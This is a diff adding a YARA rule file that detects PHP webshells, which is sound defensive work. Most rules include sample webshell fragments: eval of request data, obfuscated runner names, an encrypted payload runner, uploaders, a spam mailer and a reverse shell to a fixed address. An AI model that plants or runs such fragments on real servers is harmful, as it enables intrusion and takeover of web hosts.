@@ -1,0 +1,391 @@
+/*
+    hostguard.hosting: webshell rules on the PHP view of a file.
+
+    The PHP view is the file with comments and docblocks removed (newlines kept),
+    double-quoted escapes decoded and constant pieces folded into the string they
+    spell ('as'.'sert', chr(97).chr(115), strrev('lave'), str_rot13('riny'),
+    base64_decode('ZXZhbA=='), str_replace('`','','a`s`s`e`r`t')), and every use of
+    a variable that holds request data ($cmd = $_GET['c']) followed by the byte
+    \x02. So a rule here never fires on prose in a comment, hiding a name in
+    pieces does not hide it, and request data is followed through a variable.
+
+    Every rule says in its meta what it catches and why (description), a
+    fragment it matches (matches) and one it must not match (not_matches);
+    the unit tests hold each rule to both.
+
+    Shared pieces, spelled out in each rule (YARA has no macros):
+      runner   eval, assert, system, exec, passthru, shell_exec, popen, proc_open,
+               pcntl_exec (not a method: no "->" or "::" before it)
+      request  $_GET, $_POST, $_REQUEST, $_COOKIE, $_FILES, $_SERVER['HTTP_...'],
+               getenv('HTTP_...'), getallheaders(), apache_request_headers(),
+               php://input, and a variable marked \x02 (it holds request data)
+*/
+
+rule eval_decoded
+{
+    meta:
+        description = "eval/assert/system/include fed by a decoder (base64_decode, gzinflate, str_rot13, ...): a payload hidden from readers"
+        example_match = "<?php @eval(gzinflate(base64_decode('7b0HYBxJ')));"
+        example_no_match = "<?php $data = base64_decode( $encoded ); $r = curl_exec( $ch );"
+    strings:
+        $call = /([^\w$>:](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(|[^\w$>:'"](include|require)(_once)?\b)[^;]{0,200}(base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|convert_uudecode|hex2bin|pack\s*\(\s*['"]H\*['"]\s*,)\s*\(?/ nocase
+    condition:
+        $call
+}
+
+rule eval_request
+{
+    meta:
+        description = "eval/assert/system/include fed by request data or a request header in the same call"
+        example_match = "<?php @assert($_REQUEST['x']); system(getenv('HTTP_X_CMD'));"
+        example_no_match = "<?php echo esc_html( $_GET['page'] ); $o->exec($_POST['q']);"
+    strings:
+        $call = /([^\w$>:](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(|[^\w$>:'"](include|require)(_once)?\b)[^;]{0,200}(\$_(GET|POST|REQUEST|COOKIE|FILES)\b|\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_|getallheaders\s*\(|apache_request_headers\s*\(|php:\/\/input)/ nocase
+    condition:
+        $call
+}
+
+rule request_callable
+{
+    meta:
+        description = "a function whose name comes from the request, or a variable function called with request data: $_POST['f']($_POST['a']), $f($_POST['x'])"
+        example_match = "<?php $k = $p; $k($_POST['ice']);"
+        example_no_match = "<?php $value = sanitize_text_field( $_POST['name'] ); $cb( $value );"
+    strings:
+        $name_from_request = /\$_(GET|POST|REQUEST|COOKIE)\s*\[[^\]]{1,60}\]\s*\(/ nocase
+        $tainted_callee = /(^|[^\w>:])\$\w+\x02\s*(\[[^\]]{1,40}\]\s*)?\(/
+        $variable_call = /(^|[^\w>:])\$\w+\x02?\s*(\[[^\]]{1,40}\]\s*){0,3}\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\b|\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_|getallheaders\s*\(|file_get_contents\s*\(\s*['"]php:\/\/input|\$\w+\x02)/ nocase
+        $string_call = /['"]\s*\)\s*\(\s*@?\$_(GET|POST|REQUEST|COOKIE)/ nocase
+        $result_call = /\w\s*\([^();]{0,80}\)\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\b|\$\w+\x02)/ nocase
+    condition:
+        any of them
+}
+
+rule request_through_variable
+{
+    meta:
+        description = "a runner called with request data that went through a variable or a function parameter, or after extract() of the request: $cmd = $_REQUEST['cmd']; system($cmd);"
+        example_match = "<?php $cmd = $_REQUEST['cmd']; echo '<pre>'; system($cmd);"
+        example_no_match = "<?php $id = $_GET['id']; $out = shell_exec($command); $stmt = $db->exec($id);"
+    strings:
+        $tainted = /[^\w$>:](eval|assert|system|passthru|shell_exec|exec|popen|proc_open|pcntl_exec)\s*\([^;]{0,200}\$\w+\x02/ nocase
+        $runner = /[^\w$>:](eval|assert|system|passthru|shell_exec|exec|popen|proc_open|pcntl_exec)\s*\(\s*@?\$\w+/ nocase
+        $variable_call = /(^|[^\w>:])\$\w+\s*\(\s*@?\$\w+\s*\)/
+        $extract = /extract\s*\(\s*\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
+        $parameter = /function\s+\w+\s*\(\s*\$\w+[^)]{0,80}\)\s*\{[^}]{0,200}[^\w$>:](eval|assert|system|passthru|shell_exec|exec|popen|proc_open)\s*\(\s*@?\$\w+/ nocase
+        $request = /\$_(GET|POST|REQUEST|COOKIE)\s*\[/ nocase
+    condition:
+        $tainted or ($extract and ($runner or $variable_call)) or ($parameter and $request)
+}
+
+rule hidden_runner_name
+{
+    meta:
+        description = "the name of a runner (assert, eval, system, ...) assembled from pieces, decoded or reversed, then kept in a variable or called: the oldest way to hide a backdoor from a grep"
+        example_match = "<?php $f = 'as' . 'se' . 'rt'; $f($x);"
+        example_no_match = "<?php $key = 'wp_' . 'nonce'; $s = 'ev' . 'ent'; if ( function_exists( 'system' ) ) {}"
+    strings:
+        $assigned = /\$\w+\s*(\.?=|=>)\s*['"](assert|eval|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function|call_user_func|call_user_func_array|base64_decode|gzinflate|gzuncompress|str_rot13)['"]\s*[;,\])]/ nocase
+        $called = /\(\s*['"](assert|eval|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function|base64_decode|file_get_contents|gzinflate)['"]\s*\)\s*\(/ nocase
+        $suffix = /(\$\w+|\])\s*\.\s*['"](ert|sert|ssert|ystem|stem|xec)['"]\s*[;),]/ nocase
+        $variable_call = /(^|[^\w>:])\$\w+\x02?\s*(\[[^\]]{1,40}\]\s*){0,3}\(/
+        $underscore_call = /(^|[^\w>:])\$_{1,9}\s*\(\s*@?(\$_{1,9}\s*[\[)]|[a-z_]\w*\s*\()/ nocase
+        $numeric_calls = /(\$\w+\s*\(\s*\d{1,3}\s*\)\s*\.\s*){4}/
+    condition:
+        $called or $underscore_call or $numeric_calls or (($assigned or $suffix) and $variable_call)
+}
+
+rule runner_as_callback
+{
+    meta:
+        description = "assert, eval or a command runner handed as a callback (call_user_func, array_map, array_udiff_assoc, register_shutdown_function, ob_start, ...), or a callback named by the request or a decoder: it runs data without a visible call"
+        example_match = "<?php array_udiff_assoc(array($_REQUEST['p'] => 1), array(1), 'assert');"
+        example_no_match = "<?php array_map( 'esc_attr', $classes ); call_user_func( 'wp_die', $msg );"
+    strings:
+        $callback = /(call_user_func|call_user_func_array|array_map|array_filter|array_walk|array_walk_recursive|array_reduce|usort|uasort|uksort|array_udiff\w*|array_diff_u\w*|array_uintersect\w*|array_intersect_u\w*|register_shutdown_function|register_tick_function|ob_start|preg_replace_callback|iterator_apply|forward_static_call|forward_static_call_array|set_error_handler|set_exception_handler|header_register_callback|mb_ereg_replace_callback|ReflectionFunction)\s*\(([^;]{0,300}[,(])?\s*['"]?(assert|eval|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function)['"]?\s*[,)]/ nocase
+        $ob_eval = /ob_start\s*\([^;]{0,200}\b(assert|eval|system|passthru|shell_exec|exec)\s*\(/ nocase
+        $over_request = /(array_map|array_walk|array_filter)\s*\(\s*\$\w+\s*,[^;]{0,40}(\$_(GET|POST|REQUEST|COOKIE)\b|\$\w+\x02)/ nocase
+        $pieced_callback = /(call_user_func|call_user_func_array|array_map|array_filter|array_walk|usort|uasort|uksort|array_u(diff|intersect)\w*|array_(diff|intersect)_u\w+|register_shutdown_function)\s*\([^;{]{0,200}[(,]\s*\$\w+(\[[^\]]{1,10}\])?(\s*\.\s*\$\w+(\[[^\]]{1,10}\])?){1,4}\s*\)/ nocase
+        $ob_capture = /ob_start\s*\(\s*function/ nocase
+        $request_callback = /(array_diff_u\w+|array_intersect_u\w+|array_udiff\w*|array_uintersect\w*)\s*\([^;]{0,300},\s*@?(\(string\)\s*)?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\s*\[[^\]]{1,40}\])\s*\)/ nocase
+        $eval_var = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+\s*\)/ nocase
+        $request = /\$_(GET|POST|REQUEST|COOKIE)\s*\[/ nocase
+        $first_dynamic = /(call_user_func|call_user_func_array|array_map|register_shutdown_function|register_tick_function|ob_start|forward_static_call|forward_static_call_array|iterator_apply)\s*\(\s*@?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\b|(base64_decode|str_rot13|strrev|gzinflate|hex2bin)\s*\()/ nocase
+        $second_dynamic = /(array_filter|array_walk|array_walk_recursive|array_reduce|usort|uasort|uksort|preg_replace_callback)\s*\(\s*[^,;]{1,80},\s*@?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\b|(base64_decode|str_rot13|strrev|gzinflate|hex2bin)\s*\()/ nocase
+    condition:
+        $callback or $ob_eval or $first_dynamic or $second_dynamic or $over_request or $pieced_callback or $request_callback
+        or ($ob_capture and $eval_var and $request)
+}
+
+rule string_xor
+{
+    meta:
+        description = "two string literals XORed together (or with chr()): a name or payload that appears in neither literal"
+        example_match = "<?php $f = ('$#;[' ^ 'EPHI'); $f($_GET[1]);"
+        example_no_match = "<?php $mask = $a ^ $b; $x = 0x0f ^ $flags;"
+    strings:
+        $xor = /[=(.]\s*['"][^'"\n ]{1,80}['"]\s*\^\s*(['"][^'"\n ]{1,80}['"]|chr\s*\()/
+    condition:
+        $xor
+}
+
+rule encrypted_payload_runner
+{
+    meta:
+        description = "a request body decrypted with a key (XOR with a cycling key, openssl_decrypt) and evaluated, or decoded request data stashed in the session for a later eval: Godzilla, Behinder and their kin"
+        example_match = "<?php $d = file_get_contents('php://input'); for($i=0;$i<strlen($d);$i++){$d[$i]=$d[$i]^$k[$i+1&15];} eval($d);"
+        example_no_match = "<?php $plain = openssl_decrypt( $cipher, 'aes-256-cbc', $key, 0, $iv ); return $plain;"
+    strings:
+        $eval_concat = /[^\w$>:](eval|assert)\s*\(\s*\$\w+\s*\.\s*(""|'')\s*\)/ nocase
+        $xor_key = /\$\w+\s*\[\s*\(?\s*\$\w+\s*\+\s*1\s*\)?\s*&\s*(15|31|0x0?f|0x1f)\s*\]/
+        $decrypt = /openssl_decrypt\s*\(/ nocase
+        $eval_var = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+/ nocase
+        $session = /\$_SESSION\s*\[/
+        $request = /\$_(POST|REQUEST|GET|COOKIE)\s*\[|php:\/\/input/ nocase
+        $stash = /\$_SESSION\s*\[[^\]]{1,40}\]\s*=\s*@?(base64_decode|gzinflate|str_rot13|gzuncompress|hex2bin)\s*\(\s*\$_(COOKIE|POST|GET|REQUEST|SERVER)\b/ nocase
+    condition:
+        $eval_concat or $stash or (($xor_key or $decrypt) and $eval_var and ($request or $session))
+}
+
+rule preg_replace_eval
+{
+    meta:
+        description = "preg_replace with the /e modifier or mb_ereg_replace with the e option, which evaluate the replacement as PHP"
+        example_match = "<?php preg_replace(\"/.*/e\", $_POST['c'], '');"
+        example_no_match = "<?php return preg_replace( '/[^a-z0-9_\\-]/', '', $key );"
+    strings:
+        $e = /preg_replace\s*\(\s*['"][^'"]{0,400}[\/#|~!@%{}][a-df-z]*e[a-z]*['"]\s*,/ nocase
+        $mb_e = /mb_e?regi?_replace\s*\([^;]{0,300},\s*['"][a-df-z]*e[a-z]*['"]\s*\)/ nocase
+    condition:
+        $e or $mb_e
+}
+
+rule create_function_code
+{
+    meta:
+        description = "create_function (an eval in disguise, removed in PHP 8) with code that is not a plain literal"
+        example_match = "<?php $f = create_function('', $code); $f();"
+        example_no_match = "<?php $cmp = create_function('$a,$b', 'return $a - $b;');"
+    strings:
+        $dynamic = /create_function\s*\(\s*['"][^'"]*['"]\s*,\s*[^'"\s]/ nocase
+    condition:
+        $dynamic
+}
+
+rule include_non_php_file
+{
+    meta:
+        description = "include/require of an image, icon or text file: PHP hidden in a file nobody reads as code (favicon_1a3f84.ico)"
+        example_match = "<?php @include \"\\x2fh\\x6fme/u/www/favicon_1a3f84.ico\";"
+        example_no_match = "<?php include __DIR__ . '/templates/header.php';"
+    strings:
+        $include = /[^\w$>:](include|require|include_once|require_once)\s*\(?\s*['"][^'"\n]{0,300}\.(ico|jpe?g|gif|png|bmp|webp|svg|txt|log|dat|tmp|bak|zip|css|js)['"]/ nocase
+    condition:
+        $include
+}
+
+rule reverse_shell
+{
+    meta:
+        description = "a socket to a fixed address handed to a shell: a reverse shell back to the attacker"
+        example_match = "<?php $s=fsockopen(\"203.0.113.9\",4444);$p=proc_open('/bin/sh -i',array(0=>$s,1=>$s,2=>$s),$pipes);"
+        example_no_match = "<?php $fp = fsockopen( $host, 80, $errno, $errstr, 5 ); fwrite( $fp, $request );"
+    strings:
+        $socket = /(fsockopen|pfsockopen|stream_socket_client|socket_connect)\s*\(\s*['"]?(tcp:\/\/|udp:\/\/)?[\w.\-:]+['"]?\s*,\s*\d{2,5}/ nocase
+        $socket_var = /(fsockopen|pfsockopen|stream_socket_client|socket_connect|socket_create)\s*\(/ nocase
+        $shell = /['"](\/bin\/(ba)?sh|sh -i|bash -i|cmd\.exe|\/bin\/sh -i)/ nocase
+        $runner = /[^\w$>:](proc_open|popen|shell_exec|system|exec|passthru)\s*\(/ nocase
+    condition:
+        ($socket and $runner) or ($socket_var and $runner and $shell)
+}
+
+rule request_file_writer
+{
+    meta:
+        description = "an uploader: an upload saved under the name the client chose or as a .php file, or a file written where the request says"
+        example_match = "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"
+        example_no_match = "<?php move_uploaded_file( $file['tmp_name'], $dir . '/' . wp_unique_filename( $dir, $name ) );"
+    strings:
+        $client_name = /[^\w$>:](move_uploaded_file|copy)\s*\(\s*\$_FILES\s*\[[^\]]{1,40}\]\s*\[\s*['"]tmp_name['"]\s*\]\s*,[^;]{0,120}\$_FILES\s*\[[^\]]{1,40}\]\s*\[\s*['"]name['"]\s*\]\s*\)/ nocase
+        $request_path = /(file_put_contents|fopen)\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\s*\[|\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_)/ nocase
+        $request_url = /(file_put_contents|fwrite)\s*\([^;]{0,120}file_get_contents\s*\(\s*\$_(GET|POST|REQUEST)\s*\[/ nocase
+        $php_destination = /[^\w$>:](move_uploaded_file|copy)\s*\([^;]{0,150},\s*['"][^'"\n]{0,100}\.(php[3-8]?|phtml|pht|phar)['"]\s*\)/ nocase
+        $request_destination = /[^\w$>:](move_uploaded_file|copy)\s*\([^;]{0,150},\s*(\$_(POST|GET|REQUEST)\b|\$\w+\x02)/ nocase
+    condition:
+        any of them
+}
+
+rule mass_mailer
+{
+    meta:
+        description = "mail() with recipients from the request, or a loop over a recipient list taken from the request: a spam script"
+        example_match = "<?php $list = explode(\"\\n\", $_POST['emails']); foreach ($list as $to) { mail($to, $_POST['subject'], $_POST['body']); }"
+        example_no_match = "<?php wp_mail( $admin, 'Contact', sanitize_textarea_field( $_POST['message'] ) );"
+    strings:
+        $mail_request = /[^\w$>:]mail\s*\(\s*(stripslashes\s*\(\s*)?\$_(GET|POST|REQUEST)\b/ nocase
+        $mail = /[^\w$>:]mail\s*\(\s*\$\w+/ nocase
+        $list = /(explode|preg_split|split)\s*\([^;]{0,40},\s*(trim\s*\(\s*)?\$_(GET|POST|REQUEST)\s*\[/ nocase
+        $loop = /(foreach|for|while)\s*\(/ nocase
+        $textarea = /<textarea[^>]{0,200}>/ nocase
+    condition:
+        $mail_request or ($mail and $loop and ($list or $textarea))
+}
+
+rule password_protected_shell
+{
+    meta:
+        description = "access guarded by comparing a hash (md5, sha1, crypt) of input with a hard-coded one: a password-protected shell (a hash of request data alone is no tell)"
+        example_match = "<?php if (md5($_POST['pass']) == '5f4dcc3b5aa765d61d8327deb882cf99') { eval($_POST['c']); }"
+        example_no_match = "<?php $key = md5( $_POST['email'] . $salt ); update_option( 'k', $key );"
+    strings:
+        $compare = /(md5|sha1|crypt)\s*\([^;]{0,120}\)\s*[!=]==?\s*['"]([0-9a-f]{32}|[0-9a-f]{40}|[\w.\/$]{13})['"]/ nocase
+        $reverse = /['"]([0-9a-f]{32}|[0-9a-f]{40})['"]\s*[!=]==?\s*(md5|sha1)\s*\(/ nocase
+        $request = /\$_(GET|POST|REQUEST|COOKIE|SERVER)\s*\[/ nocase
+    condition:
+        ($compare or $reverse) and $request
+}
+
+rule backtick_request
+{
+    meta:
+        description = "a shell command in backticks built from request data (comments are out of the view, so Markdown code spans are no match)"
+        example_match = "<?php echo `ls -la {$_GET['d']}`;"
+        example_no_match = "<?php echo '`$_POST` holds the form fields';"
+    strings:
+        $backtick = /`[^`\n'"]{0,200}(\$_(GET|POST|REQUEST|COOKIE)\b|\$_SERVER\s*\[\s*['"]HTTP_|\$\w+\x02)[^`\n]{0,200}`\s*[;).,?]/ nocase
+    condition:
+        $backtick
+}
+
+rule packed_payload_runner
+{
+    meta:
+        description = "a long encoded blob decoded in a file that also runs code (eval, assert, a variable function): a packed shell"
+        example_match = "<?php $x = base64_decode('SGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQ='); eval($x);"
+        example_no_match = "<?php $png = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='); echo $png;"
+    strings:
+        $blob = /(base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|convert_uudecode|hex2bin)\s*\(\s*['"][A-Za-z0-9+\/=\\\r\n]{256}/ nocase
+        $runner = /[^\w$>:](eval|assert|create_function)\s*\(|(^|[^\w>:])\$\w+\s*\(\s*\$\w+\s*\)\s*;/ nocase
+    condition:
+        $blob and $runner
+}
+
+rule web_command_form
+{
+    meta:
+        description = "an HTML form in the same file as a shell command run from a variable: a command page (older shells take the variable straight from the form through register_globals)"
+        example_match = "<form method=post><input name=cmd></form><?php system($cmd); ?>"
+        example_no_match = "<form method=post><input name=q></form><?php exec('git rev-parse HEAD', $out); ?>"
+    strings:
+        $form = /<(form|input|textarea)\b/ nocase
+        $runner = /[^\w$>:](system|passthru|shell_exec|exec|popen|proc_open)\s*\(\s*(@?\$\w+|"[^"\n]{0,80}\$\w+)/ nocase
+    condition:
+        $form and $runner
+}
+
+rule upload_page
+{
+    meta:
+        description = "a page that shows its own upload form and saves the upload under the name the client sent: an uploader dropped to plant more files"
+        example_match = "<form enctype=\"multipart/form-data\" method=post><input type=file name=f></form><?php move_uploaded_file($_FILES['f']['tmp_name'], $dir.$_FILES['f']['name']);"
+        example_no_match = "<?php move_uploaded_file( $file['tmp_name'], $new_file );"
+    strings:
+        $form = "multipart/form-data" nocase
+        $save_as_named = /[^\w$>:](move_uploaded_file|copy)\s*\(\s*\$[^;]{0,150}(\$\w+_name\b|\[\s*['"]name['"]\s*\])/ nocase
+    condition:
+        $form and $save_as_named
+}
+
+rule superglobal_by_name
+{
+    meta:
+        description = "request data read through a variable variable (${'_POST'}, ${'_P'.'OST'}, $$name with name '_POST'): only code that hides where its input comes from writes that"
+        example_match = "<?php @$f(${'_PO'.'ST'}[0]);"
+        example_no_match = "<?php $fields = $_POST['fields']; $name = ${'prefix'};"
+    strings:
+        $by_name = /\$\s*\{\s*['"]_(GET|POST|REQUEST|COOKIE|SERVER|FILES)['"]\s*\}/ nocase
+        $name = /['"]_(GET|POST|REQUEST|COOKIE)['"]/
+        $variable_variable = /\$\$\w+/
+    condition:
+        $by_name or ($name and $variable_variable)
+}
+
+rule many_piece_code
+{
+    meta:
+        description = "code assembled from pieces and evaluated: many short variables joined, eval($a.$b), eval($f($x)), or eval() of a function's result in a file that reads the request"
+        example_match = "<?php $a='e';$b='val($_';$c='PO';$d='ST[x]);';$e=$a.$b.$c.$d; @eval($e);"
+        example_no_match = "<?php $url = $scheme . $host . $port . $path; wp_redirect( $url );"
+    strings:
+        $pieces = /\$\w+\s*=\s*(\$\w+\s*\.\s*){3,}(\$\w+|['"][^'"\n]{0,40}['"])\s*;/
+        $short_literals = /(\$\w+\s*=\s*['"][^'"\n]{1,8}['"]\s*;\s*){4}/
+        $eval_var = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+\s*\)/ nocase
+        $eval_concat = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+\s*\.\s*\$\w+\s*\)/ nocase
+        $eval_call = /[^\w$>:]eval\s*\(\s*@?[a-z_]\w*\s*\(/ nocase
+        $eval_variable_call = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+\s*\(/ nocase
+        $request = /\$_(GET|POST|REQUEST|COOKIE)\s*\[/ nocase
+    condition:
+        ($pieces and $short_literals and $eval_var) or $eval_concat or $eval_variable_call
+        or ($eval_call and $request and not eval_decoded and not eval_request)
+}
+
+rule request_path_access
+{
+    meta:
+        description = "a directory listed, or a file read, removed or shown, at a path the request names (or read through compress.zlib:// to get around safe_mode): the file manager of a shell"
+        example_match = "<?php $dir = $_GET['d']; $h = opendir($dir); while ($f = readdir($h)) echo $f;"
+        example_no_match = "<?php $page = $_GET['page']; $h = opendir( WP_PLUGIN_DIR );"
+    strings:
+        $access = /[^\w$>:](opendir|scandir|readfile|unlink|rmdir|highlight_file|show_source|file|fopen|file_get_contents)\s*\(\s*@?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\s*\[)/ nocase
+        $zlib_bypass = /[^\w$>:](copy|fopen|file_get_contents|readfile|include|require)\s*\(\s*['"]compress\.zlib:\/\/['"]\s*\.\s*\$\w+/ nocase
+    condition:
+        $access or $zlib_bypass
+}
+
+rule encoded_code
+{
+    meta:
+        description = "code that runs things or reads the request, written in base64 or hex (eval(, assert(, system(, $_POST[ ...): only a packed payload carries its own code encoded"
+        example_match = "<?php $p = 'QGV2YWwoJF9QT1NUWyd4J10pOw=='; $t = '61737365727428245f504f53545b635d293b';"
+        example_no_match = "<?php $icon = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAGElEQVR42mNk'; $h = 'deadbeef00112233';"
+    strings:
+        $b64_eval = "eval(" base64
+        $b64_assert = "assert(" base64
+        $b64_system = "system(" base64
+        $b64_shell_exec = "shell_exec(" base64
+        $b64_passthru = "passthru(" base64
+        $b64_post = "$_POST[" base64
+        $b64_get = "$_GET[" base64
+        $b64_request = "$_REQUEST[" base64
+        $b64_cookie = "$_COOKIE[" base64
+        $hex = /6576616c28|61737365727428|73797374656d28|7061737374687275|245f504f5354|245f4745545b|245f52455155455354|245f434f4f4b4945/ nocase
+    condition:
+        any of them
+}
+
+rule self_deleting_runner
+{
+    meta:
+        description = "a script that deletes itself, keeps running after the client leaves and runs code: a memory-resident shell"
+        example_match = "<?php unlink($_SERVER['SCRIPT_FILENAME']); ignore_user_abort(true); while (1) { @eval(file_get_contents($u)); sleep(5); }"
+        example_no_match = "<?php if ( $done ) { unlink( __FILE__ ); } echo 'Setup finished';"
+    strings:
+        $unlink_self = /unlink\s*\(\s*(__FILE__|\$_SERVER\s*\[\s*['"]SCRIPT_FILENAME['"]\s*\])\s*\)/ nocase
+        $keep_running = /ignore_user_abort\s*\(\s*(true|1)?\s*\)/ nocase
+        $runner = /[^\w$>:](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|file_put_contents)\s*\(/ nocase
+    condition:
+        $unlink_self and $keep_running and $runner
+}
+
+rule xslt_php_runner
+{
+    meta:
+        description = "an XSL stylesheet that calls assert, eval or a command runner through registerPHPFunctions: code run from XML"
+        example_match = "<?php $xsl = '<xsl:value-of select=\"php:function(\\'assert\\',string(.))\"/>'; $p->registerPHPFunctions();"
+        example_no_match = "<?php $p = new XSLTProcessor(); $p->registerPHPFunctions( array( 'strtoupper' ) );"
+    strings:
+        $call = /:function(String)?\s*\(\s*\\?['"](assert|eval|system|exec|passthru|shell_exec|popen|proc_open|create_function)\\?['"]/ nocase
+        $register = "registerPHPFunctions" nocase
+    condition:
+        $call and $register
+}
